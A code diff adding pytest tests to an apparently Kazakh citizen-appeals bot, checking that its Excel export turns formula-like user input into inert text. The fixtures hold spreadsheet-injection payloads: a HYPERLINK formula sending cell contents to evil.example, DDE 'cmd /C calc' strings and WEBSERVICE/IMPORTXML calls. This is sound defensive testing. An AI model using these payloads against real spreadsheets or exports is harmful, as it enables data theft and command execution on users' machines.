@@ -5,20 +5,35 @@ from __future__ import annotations
 import io
 import threading
 import zipfile
+from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from typing import Any
+from xml.etree import ElementTree
 
 import pytest
 
 from bot import reports as reports_module
 from bot.catalog import Catalog
-from bot.reports import compute_stats, export_xlsx, parse_days, period_appeals, render_stats
+from bot.reports import (
+    compute_stats,
+    export_xlsx,
+    inert,
+    parse_days,
+    period_appeals,
+    render_stats,
+)
 from i18n.core import PoI18n
 from storage.models import Status
 from storage.reports import ReportQueries
 from storage.sqlite import SQLiteRepository
 from tests.conftest import ALMATY, OFFICIALS, Harness
+from tests.test_e2e_appeal import onboard
 from tests.test_storage import NOW, new_appeal
+
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+# A citizen's text that Excel would run: a link that sends the neighbouring cells away.
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&X2&Y2,"Подробнее")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 @pytest.mark.parametrize(
@@ -113,3 +128,158 @@ async def test_stats_and_export_in_the_officials_chat(
     main = threading.main_thread().name
     assert set(threads) == {"compute_stats", "export_xlsx"}
     assert main not in threads.values()
+
+
+@dataclass(frozen=True)
+class Cell:
+    kind: str  # the t attribute: "s" shared string, "n" (or "") number, "b", "str" formula
+    value: str
+    formula: str | None
+
+
+def sheet_cells(content: bytes, sheet: int = 1) -> dict[str, Cell]:
+    """Every cell of a worksheet by its reference (A1…), as the file stores it."""
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        shared_xml = book.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in \
+            book.namelist() else b"<sst/>"  # fmt: skip
+        sheet_xml = book.read(f"xl/worksheets/sheet{sheet}.xml")
+    shared = [
+        "".join(t.text or "" for t in si.iter(f"{MAIN}t"))
+        for si in ElementTree.fromstring(shared_xml).iter(f"{MAIN}si")
+    ]
+    cells = {}
+    for c in ElementTree.fromstring(sheet_xml).iter(f"{MAIN}c"):
+        kind = c.get("t", "n")
+        v, f = c.find(f"{MAIN}v"), c.find(f"{MAIN}f")
+        value = v.text or "" if v is not None else ""
+        cells[c.get("r", "")] = Cell(
+            kind, shared[int(value)] if kind == "s" else value, f.text if f is not None else None
+        )
+    return cells
+
+
+def column_of(cells: dict[str, Cell], header: str) -> str:
+    """The column letters of a header in row 1."""
+    for ref, cell in cells.items():
+        if ref.endswith("1") and ref[:-1].isalpha() and cell.value == header:
+            return ref[:-1]
+    raise AssertionError(f"no column {header!r}")
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        (DDE, "'" + DDE),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),
+        # Only digits and signs: arithmetic at worst, so a phone stays as typed.
+        ("+77011234567", "+77011234567"),
+        ("-5", "-5"),
+        ("+7 (701) 234-56-78", "+7 (701) 234-56-78"),
+        # Not at the start: plain text.
+        ("Яма = беда, см. @akimat", "Яма = беда, см. @akimat"),
+        (" =1+1", " =1+1"),
+        ("", ""),
+    ],
+)  # fmt: skip
+def test_inert_makes_formula_starts_text(typed: str, written: str) -> None:
+    assert inert(typed) == written
+
+
+async def test_export_writes_every_typed_value_as_inert_text(
+    repo: SQLiteRepository, catalog: Catalog
+) -> None:
+    """Every field a person typed, in both sheets: strings, never formulas; our own dates and
+    numbers stay real ones."""
+    await repo.create_appeal(
+        new_appeal("f1", text=HYPERLINK, contact_name="=cmd|' /C calc'!A0",
+                   contact_phone="+77012345678")
+    )  # fmt: skip
+    await repo.transition(
+        1, frozenset({Status.REGISTERED}), Status.ANSWERED, "official:9",
+        NOW + timedelta(hours=5), answered_at=NOW + timedelta(hours=5), rating=2,
+        answer_text="-1+A1", answered_by_name="@Official", taken_by_name="+Taker",
+    )  # fmt: skip
+    await repo.update_fields(1, feedback="=IMPORTXML(1)", extension_reason="=WEBSERVICE(1)")
+    rows = await period_appeals(ReportQueries(repo.db), 30, NOW + timedelta(days=2))
+    booking = {
+        "reception": "akim", "session_day": "2026-11-25",
+        "slot_start": "2026-11-25T05:00:00+00:00", "status": "booked",
+        "access": '["wheelchair"]', "access_other": "=1+2", "topic": DDE,
+        "appeal_reference": None, "contact_name": "-Name+A1", "contact_phone": "+77012345678",
+        "language": "ru", "created_at": "2026-11-23T05:00:00+00:00", "cancelled_at": None,
+    }  # fmt: skip
+    i18n = PoI18n()
+    with i18n.context(), i18n.use_locale("ru"):
+        content = export_xlsx(rows, catalog, "ru", ALMATY, [booking])
+    appeals, bookings = sheet_cells(content, 1), sheet_cells(content, 2)
+    assert not [c for c in [*appeals.values(), *bookings.values()] if c.formula is not None]
+
+    def at(cells: dict[str, Cell], header: str) -> Cell:
+        return cells[f"{column_of(cells, header)}2"]
+
+    expected = {
+        "text": "'" + HYPERLINK, "contact_name": "'=cmd|' /C calc'!A0",
+        "contact_phone": "+77012345678", "answer_text": "'-1+A1",
+        "answered_by_name": "'@Official", "taken_by_name": "'+Taker",
+        "feedback": "'=IMPORTXML(1)", "extension_reason": "'=WEBSERVICE(1)",
+    }  # fmt: skip
+    assert {h: (at(appeals, h).kind, at(appeals, h).value) for h in expected} == {
+        h: ("s", v) for h, v in expected.items()
+    }
+    expected = {"access_other": "'=1+2", "topic": "'" + DDE, "contact_name": "'-Name+A1",
+                "contact_phone": "+77012345678"}  # fmt: skip
+    assert {h: (at(bookings, h).kind, at(bookings, h).value) for h in expected} == {
+        h: ("s", v) for h, v in expected.items()
+    }
+    # Dates and numbers we generate: real ones (serial days, not text).
+    assert at(appeals, "rating") == Cell("n", "2", None)
+    for header in ("created_at", "registered_on", "due_at", "answered_at"):
+        assert at(appeals, header).kind == "n" and float(at(appeals, header).value) > 46000
+    for header in ("session_day", "slot_start", "created_at"):
+        assert at(bookings, header).kind == "n" and float(at(bookings, header).value) > 46000
+
+
+async def test_export_over_http_carries_no_formula(harness: Harness) -> None:
+    """A citizen whose text and name start with a formula files an appeal; an official named
+    like one takes it; the workbook /export sends has no formula, only inert text."""
+    h = harness
+    citizen, official = 611, 900
+    await onboard(h, citizen, "ru")
+    kinds = await h.say(citizen, "/new")
+    categories = await h.click(citizen, kinds, "Заявление")
+    await h.click(citizen, categories, "Другое")
+    await h.say(citizen, "Шымкент", expect="Шымкент")
+    since = h.fake.mark()
+    h.fake.user_message(citizen, "Каратау")
+    await h.reply(citizen, since, expect="3500")
+    files = await h.say(citizen, HYPERLINK)
+    location = await h.press(citizen, files, h.fake.buttons(files)[0][1] or "")
+    await h.say(citizen, h.fake.buttons(location)[1][0])
+    since = h.fake.mark()
+    h.fake.user_contact(citizen, "77015556677", first_name="=cmd|' /C calc'!A0", last_name="X")
+    review = await h.with_button(citizen, since, "✅")
+    await h.click(citizen, review, "✅", expect="2026-00001")
+    card = await h.fake.wait_for(
+        lambda c: c.method == "sendMessage" and h.fake.chat_of(c) == OFFICIALS
+        and "2026-00001" in (c.text or "")
+    )  # fmt: skip
+    since = h.fake.mark()
+    h.fake.press(official, card, h.fake.find_button(card, "▶️"), first_name="@SUM(1)")
+    await h.fake.wait_for(lambda c: c.method == "editMessageText", since=since)
+    h.app.dp["appeals"].clock = lambda: h.clock() + timedelta(minutes=1)
+
+    since = h.fake.mark()
+    h.fake.group_message(OFFICIALS, official, "/export 7")
+    document = await h.fake.wait_for(lambda c: c.method == "sendDocument", since=since)
+    cells = sheet_cells(h.fake.uploaded(document))
+    assert [c for c in cells.values() if c.formula is not None] == []
+    assert cells[f"{column_of(cells, 'text')}2"] == Cell("s", "'" + HYPERLINK, None)
+    assert cells[f"{column_of(cells, 'contact_name')}2"].value == "'=cmd|' /C calc'!A0 X"
+    assert cells[f"{column_of(cells, 'taken_by_name')}2"].value == "'@SUM(1)"
+    assert cells[f"{column_of(cells, 'contact_phone')}2"].value == "+77015556677"
